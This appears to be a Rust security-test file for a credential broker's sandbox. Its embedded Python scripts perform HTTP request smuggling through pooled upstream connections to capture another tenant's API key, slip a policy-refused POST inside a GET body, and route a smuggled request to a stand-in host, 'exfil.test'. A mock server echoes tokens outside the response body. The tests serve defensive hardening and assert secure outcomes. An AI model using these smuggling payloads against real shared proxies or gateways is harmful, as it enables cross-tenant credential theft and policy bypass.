//! A fifth attack review, run as the process inside the sandbox: each test performs one
//! attack from a sandbox (uid 65534, arbitrary Python) against the real agent, real
//! kernel and real upstreams on the test namespace's `lo`, and asserts the secure
//! outcome. A test marked `#[ignore = "open: …"]` is a break found and not yet fixed:
//! it fails against the current agent.
//!
//! Angle: the broker's request path as a shared thing — the upstream connections its
//! outbound client keeps and reuses for every caller — and what one caller's request
//! can leave on them for the next.

use std::{fs, path::PathBuf};

use hb_tests::{
    PythonServer, TestEnv, private_netns,
    sandboxed::nobody_broker_client,
    upstream::{Dnsmasq, PY_TLS_HANDLER, TestCa},
};
use serde_json::Value;

const DNS_PORT: u16 = 5450;

/// The victim tenant's key: no known token family, so only its live value can redact it.
const VICTIM_KEY: &str = "key-victim-7f3a9c2e51b84d06a2c9e7f1d4b6a8c0";
/// The attacker tenant's own key for its own account.
const ATTACKER_KEY: &str = "mallory-0f1e2d3c4b5a69788796a5b4";

/// A shared comment board over HTTPS on 203.0.113.10:443 (`board.test`), as an issue
/// tracker many tenants use with their own keys, written as small services often are
/// (Python's `http.server`, keep-alive): `POST /comments` appends the `Host` it was sent
/// with and the body it reads, `POST /ping` answers `{"ok": true}` without reading a
/// body (it needs none), any `GET` lists every comment as JSON and, as a GET handler
/// does, reads no body.
const BOARD_PY: &str = r#"
import http.server, json, ssl, sys
cert, key = sys.argv[1:3]
comments = []
class H(TlsHandler):
    def answer(self, out):
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
    def do_POST(self):
        if self.path.startswith("/ping"):
            return self.answer(b'{"ok": true}')
        n = int(self.headers.get("content-length", "0"))
        body = self.rfile.read(n).decode("utf-8", "replace")
        comments.append(self.headers.get("host", "") + " " + body)
        self.answer(b'{"ok": true}')
    def do_GET(self):
        self.answer(json.dumps({"comments": comments}).encode())
class S(http.server.ThreadingHTTPServer):
    daemon_threads = True
    def handle_error(self, request, client_address): pass
srv = S(("203.0.113.10", 443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
srv.socket = ctx.wrap_socket(srv.socket, server_side=True, do_handshake_on_connect=False)
srv.serve_forever()
"#;

/// An upstream on 203.0.113.11:443 (`echo.test`) that hands the bearer token it receives
/// back outside the body: `/early` in a `103 Early Hints` before the answer (a `Link`
/// and an `X-Echo` header), `/trailer` in a chunked answer's trailer, `/reason` as the
/// status line's reason phrase. Each answer's body is `hello`.
const ECHO_PY: &str = r#"
import socket, ssl, sys, threading
cert, key = sys.argv[1:3]
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
ls = socket.socket()
ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
ls.bind(("203.0.113.11", 443))
ls.listen(16)
def serve(c):
    try:
        s = ctx.wrap_socket(c, server_side=True)
        buf = b""
        while b"\r\n\r\n" not in buf:
            d = s.recv(4096)
            if not d:
                return
            buf += d
        head = buf.split(b"\r\n\r\n")[0].decode("latin-1")
        tok = ""
        for line in head.split("\r\n")[1:]:
            k, _, v = line.partition(":")
            if k.strip().lower() == "authorization":
                tok = v.strip().split(" ", 1)[-1]
        path = head.split(" ")[1]
        if path.startswith("/early"):
            out = "HTTP/1.1 103 Early Hints\r\nLink: </k?%s>; rel=preload\r\nX-Echo: %s\r\n\r\n" % (tok, tok)
            out += "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello"
        elif path.startswith("/trailer"):
            out = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\nX-Echo: %s\r\n\r\n" % tok
        else:
            out = "HTTP/1.1 200 %s\r\nContent-Type: text/plain\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello" % tok
        s.sendall(out.encode("latin-1"))
        s.close()
    except Exception:
        pass
while True:
    c, _ = ls.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
"#;

/// The board reachable through two integrations on the same host, one per tenant:
/// `board_a` (the attacker's, policy `web`, a bearer token) and `board_b` (the
/// victim's, policy `other`, its key in `X-Api-Key`), each with its own account and key;
/// `board_a` reaches [`ECHO_PY`]'s `echo.test` too.
struct Board {
    env: TestEnv,
    _board: PythonServer,
    _echo: PythonServer,
    _dns: Dnsmasq,
    dir: PathBuf,
}

impl Drop for Board {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.dir);
    }
}

impl Board {
    /// `a_methods`: the methods of the attacker's integration (TOML array).
    fn new(name: &str, a_methods: &str) -> Self {
        hb_tests::require_root();
        private_netns(&["203.0.113.10", "203.0.113.11"]);
        let dir = std::env::temp_dir().join(format!("hb-review5-{name}-{}", std::process::id()));
        fs::create_dir_all(&dir).expect("dir");
        let ca = TestCa::new(&dir, "trusted");
        let cert = ca.issue("board", &["board.test"]);
        let echo_cert = ca.issue("echo", &["echo.test"]);
        let echo = PythonServer::start(&format!(
            "import sys\nsys.argv = ['echo', {:?}, {:?}]\n{ECHO_PY}",
            echo_cert.cert.display().to_string(),
            echo_cert.key.display().to_string()
        ));
        let board = PythonServer::start(&format!(
            "import sys\nsys.argv = ['board', {:?}, {:?}]\n{PY_TLS_HANDLER}{BOARD_PY}",
            cert.cert.display().to_string(),
            cert.key.display().to_string()
        ));
        let dns = Dnsmasq::start(
            "127.0.0.1",
            DNS_PORT,
            &[
                ("board.test", &["203.0.113.10"]),
                ("echo.test", &["203.0.113.11"]),
            ],
            &[],
            60,
        );
        let config = format!(
            r#"
{head}
[[integration]]
name = "board_a"
auth = "bearer"
hosts = ["board.test", "echo.test"]
methods = {a_methods}

[[integration]]
name = "board_b"
auth = {{ header = "X-Api-Key" }}
hosts = ["board.test"]
methods = ["GET", "POST"]

[[policy]]
name = "web"
integrations = ["board_a"]

[[policy]]
name = "other"
integrations = ["board_b"]
"#,
            head = hb_tests::tls_broker_config(&ca.cert, DNS_PORT, ""),
        );
        let mut env = TestEnv::new(name, &config);
        env.init_vault(&[
            ("board_a", "mallory", ATTACKER_KEY),
            ("board_b", "victim", VICTIM_KEY),
        ]);
        env.start_agent();
        Self {
            env,
            _board: board,
            _echo: echo,
            _dns: dns,
            dir,
        }
    }

    /// Runs `script` (a [`hb_tests::sandboxed::broker_client_script`], with `hb` a broker
    /// client and `code(f)` the status or error code of a call) in a sandbox of `policy`
    /// as user 65534; its JSON output.
    fn in_sandbox(&self, policy: &str, script: &str, args: &[&str]) -> Value {
        nobody_broker_client(&self.env, policy, script, args)
    }
}

/// The attacker, with its own handle: a `POST /ping` whose body is the head of a
/// `POST /comments` with a `Content-Length` of `argv[1]`. The broker sends it on a pooled
/// connection; the board answers the ping without reading the body, so the body is the
/// next request on that connection as the board reads it — a POST still waiting for
/// `argv[1]` bytes of body when the broker puts the connection back in its pool.
const SMUGGLE: &str = r#"
h = hb.handle("board_a", "mallory")["handle"]
head = "POST /comments HTTP/1.1\r\nHost: board.test\r\nContent-Type: text/plain\r\nContent-Length: %s\r\n\r\n" % sys.argv[1]
print(json.dumps({"smuggle": code(lambda: hb.request("POST", "https://board.test/ping", handle=h, body=head))}))
"#;

/// The victim: reads the board with its own handle.
const VICTIM_READ: &str = r#"
h = hb.handle("board_b", "victim")["handle"]
try:
    r = hb.request("GET", "https://board.test/comments", handle=h)
    print(json.dumps({"status": r["status"], "body": r.get("body", "")}))
except BrokerError as e:
    print(json.dumps({"status": e.code, "body": ""}))
"#;

/// The attacker again: reads every comment on the board with its own handle.
const ATTACKER_READ: &str = r#"
h = hb.handle("board_a", "mallory")["handle"]
r = hb.request("GET", "https://board.test/comments", handle=h)
print(json.dumps({"status": r["status"], "body": r.get("body", "")}))
"#;

/// Upstream connections the broker reuses carry one tenant's request into another's.
/// The attack (request smuggling through the broker's connection pool): a sandbox sends
/// `POST /ping` with a body that is the head of a `POST /comments` waiting for N bytes;
/// the board answers the ping and reads the body as the next request. The broker pools the
/// connection, and another tenant's next call to the same host goes out on it: its
/// request line, headers and `X-Api-Key: <its key>` become the body of the
/// attacker's comment, and its answer is the comment's `{"ok": true}`. N is chosen to
/// end inside the key, so the whole value the scrubber knows never appears (on the
/// baseline only the `secret_assignment` family, matching `x-api-key: …`, cut the 24
/// characters captured; a header name no family knows would not be).
/// Measured on the baseline: the victim got `{"ok": true}`, the attacker read
/// `board.test GET /comments HTTP/1.1\r\nhost: board.test\r\nx-api-key: [REDACTED…]`.
/// Now refused twice over: the body reads as a request (attack review 34), and a
/// connection that carried a body is closed after its answer.
#[test]
fn a_request_left_on_a_pooled_connection_does_not_capture_another_tenants_call() {
    let world = Board::new("smuggle", r#"["GET", "POST"]"#);
    let through_key = "GET /comments HTTP/1.1\r\nhost: board.test\r\nx-api-key: ".len() + 24;
    let planted = world.in_sandbox("web", SMUGGLE, &[&through_key.to_string()]);
    let victim = world.in_sandbox("other", VICTIM_READ, &[]);
    let got = world.in_sandbox("web", ATTACKER_READ, &[]);
    let comments: Vec<String> = serde_json::from_str::<Value>(got["body"].as_str().unwrap_or("{}"))
        .ok()
        .and_then(|v| v["comments"].as_array().cloned())
        .unwrap_or_default()
        .iter()
        .filter_map(|c| c.as_str().map(str::to_owned))
        .collect();
    println!(
        "smuggle: {planted} | victim got: {victim} | attacker read {} comment(s): {comments:?}",
        comments.len()
    );
    // Since attack review 34 the broker refuses a body whose first line reads as a
    // request line (`policy_denied`) before anything is sent; the pool's own rule (a
    // connection that carried a body is never reused) is what holds when one goes out.
    assert!(
        planted["smuggle"] == 200 || planted["smuggle"] == "policy_denied",
        "the attacker's POST neither went out nor was refused: {planted}"
    );
    let key_piece = &VICTIM_KEY[..20];
    for c in &comments {
        assert!(
            !c.to_ascii_lowercase().contains("x-api-key") && !c.contains(key_piece),
            "another tenant's request (its credential's start) was captured into the attacker's comment: {c:?}"
        );
    }
    assert_eq!(victim["status"], 200, "the victim's read failed: {victim}");
    assert!(
        victim["body"].as_str().unwrap_or("").contains("comments"),
        "the victim got another request's answer instead of its own: {victim}"
    );
}

/// The attacker, whose integration allows only GET: a GET whose body is a whole
/// `POST /comments` (with its own body, `argv[1]`), then a GET of the board.
const SMUGGLE_WRITE: &str = r#"
h = hb.handle("board_a", "mallory")["handle"]
note = sys.argv[1]
whole = "POST /comments HTTP/1.1\r\nHost: board.test\r\nContent-Length: %d\r\n\r\n%s" % (len(note), note)
out = {"post": code(lambda: hb.request("POST", "https://board.test/comments", handle=h, body=note))}
out["smuggle"] = code(lambda: hb.request("GET", "https://board.test/comments", handle=h, body=whole))
r = hb.request("GET", "https://board.test/comments", handle=h)
out["read"] = r["status"]
out["body"] = r.get("body", "")
print(json.dumps(out))
"#;

/// A GET's body the upstream does not read is a request the broker never judged. The
/// attacker's integration allows GET only (a read-only grant): its POST is
/// `policy_denied`, but on the baseline a GET whose body is a whole `POST /comments` was
/// sent, the board answered the GET without reading the body and read the body as the
/// POST — a write the policy refused (unauthenticated, as the body cannot hold the
/// credential). Closing the connection after a body (the fix above) does not help: the
/// whole request arrived before the close. Fixed as the guard does for plain HTTP: a
/// call with a handle carries no body on GET, HEAD, OPTIONS, TRACE or DELETE.
/// Measured on the baseline: `"smuggle": 200` and the board held `written-by-a-get-5b1e`.
#[test]
fn a_body_the_upstream_leaves_unread_is_not_a_request_policy_refused() {
    let world = Board::new("smuggle-write", r#"["GET"]"#);
    let note = "written-by-a-get-5b1e";
    let got = world.in_sandbox("web", SMUGGLE_WRITE, &[note]);
    println!("attacker: {got}");
    assert_eq!(got["post"], "policy_denied", "a POST is refused: {got}");
    assert_eq!(got["read"], 200, "the board was read: {got}");
    assert!(
        !got["body"].as_str().unwrap_or("").contains(note),
        "a POST the policy refused reached the board inside a GET's body: {got}"
    );
    assert_eq!(got["smuggle"], "policy_denied", "a GET with a body: {got}");
}

/// The attacker: a `POST /ping` (answered unread) whose body is a whole
/// `POST /comments` naming another host, `exfil.test`, then a read of the board.
const SMUGGLE_HOST: &str = r#"
h = hb.handle("board_a", "mallory")["handle"]
note = sys.argv[1]
whole = "POST /comments HTTP/1.1\r\nHost: exfil.test\r\nContent-Length: %d\r\n\r\n%s" % (len(note), note)
out = {"smuggle": code(lambda: hb.request("POST", "https://board.test/ping", handle=h, body=whole))}
r = hb.request("GET", "https://board.test/comments", handle=h)
out["read"] = r["status"]
out["body"] = r.get("body", "")
print(json.dumps(out))
"#;

/// A POST whose body the upstream leaves unread (an endpoint that needs no input, an
/// early error) carried a whole second request the broker never judged: here one
/// naming `Host: exfil.test`, a name no policy allows, served by the upstream's address
/// (on a shared address — a CDN, a multi-tenant gateway — another site, which gets the
/// data in the request). Closed: a request with a body goes with `Connection: close`,
/// after which a server may process no further request on the connection (RFC 9112
/// §9.6). A server that breaks that rule as well would still read the rest.
#[test]
fn a_post_body_the_upstream_leaves_unread_does_not_reach_another_host() {
    let world = Board::new("smuggle-host", r#"["GET", "POST"]"#);
    let note = "for-exfil-test-9c4d";
    let got = world.in_sandbox("web", SMUGGLE_HOST, &[note]);
    println!("attacker: {got}");
    assert_eq!(got["read"], 200, "the board was read: {got}");
    assert!(
        !got["body"]
            .as_str()
            .unwrap_or("")
            .contains(&format!("exfil.test {note}")),
        "a request for exfil.test, inside a POST's unread body, reached the upstream: {got}"
    );
}

/// The attacker: its own handle's credential, echoed outside the body (see [`ECHO_PY`]);
/// every answer as the broker gave it.
const ECHO_OUTSIDE_BODY: &str = r#"
h = hb.handle("board_a", "mallory")["handle"]
out = {}
for p in ["early", "trailer", "reason"]:
    try:
        out[p] = hb.request("GET", "https://echo.test/" + p, handle=h)
    except BrokerError as e:
        out[p] = e.code
print(json.dumps(out))
"#;

/// Held: a credential an upstream hands back in a 1xx answer's headers, in a chunked
/// answer's trailer or in the status line's reason phrase does not reach the caller (the
/// broker's HTTP client drops 1xx answers and trailers, and answers with the status
/// code only). The attacker gets each answer (`hello`) without any run of its key.
#[test]
fn a_credential_echoed_in_early_hints_trailers_or_the_reason_phrase_stays_out() {
    let world = Board::new("echo-outside", r#"["GET", "POST"]"#);
    let got = world.in_sandbox("web", ECHO_OUTSIDE_BODY, &[]);
    let text = got.to_string();
    println!("attacker got: {text}");
    let secret = &ATTACKER_KEY["mallory-".len()..];
    for i in 0..=secret.len() - 8 {
        assert!(
            !text.contains(&secret[i..i + 8]),
            "a run of the attacker's own credential reached it: {text}"
        );
    }
    for p in ["early", "trailer", "reason"] {
        assert_eq!(got[p]["status"], 200, "{p}: the call was answered: {got}");
        assert_eq!(got[p]["body"], "hello", "{p}: {got}");
    }
}
